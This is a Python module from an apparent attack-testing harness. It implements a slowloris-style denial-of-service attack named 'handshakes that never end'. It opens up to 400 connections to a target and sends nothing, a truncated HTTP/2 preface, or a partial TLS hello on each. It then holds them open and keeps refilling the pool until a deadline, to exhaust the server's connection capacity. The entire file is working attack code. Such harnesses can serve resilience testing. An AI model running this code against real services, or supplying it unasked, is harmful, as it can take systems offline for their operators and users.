"""Connections whose handshake never ends: silent ones, and such as stop in the middle of hello."""

from __future__ import annotations

import socket
import sys
import time
from contextlib import suppress

from attacks.harness import Attack, Begin, Counts, Target, main
from attacks.http2 import PREFACE, drain

_SOCKETS = 400
_AGAIN = 16
_REST_S = 0.02
# Nothing, half of a preface, and the first bytes of a TLS record.
_SAID = (b"", PREFACE[:10], b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")


def _strike(target: Target, begin: Begin) -> Counts:
    open_ones: list[socket.socket] = []
    connections = 0
    until = begin()
    while time.monotonic() < until:
        for one in [one for one in open_ones if not drain(one)]:
            one.close()
            open_ones.remove(one)
        for _ in range(min(_AGAIN, _SOCKETS - len(open_ones))):
            with suppress(OSError):
                open_ones.append(socket.create_connection(target.place, 5.0))
                open_ones[-1].sendall(_SAID[connections % len(_SAID)])
                connections += 1
        time.sleep(_REST_S)
    for one in open_ones:
        one.close()
    return {"connections": connections}


ATTACK = Attack("handshakes that never end", _strike)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
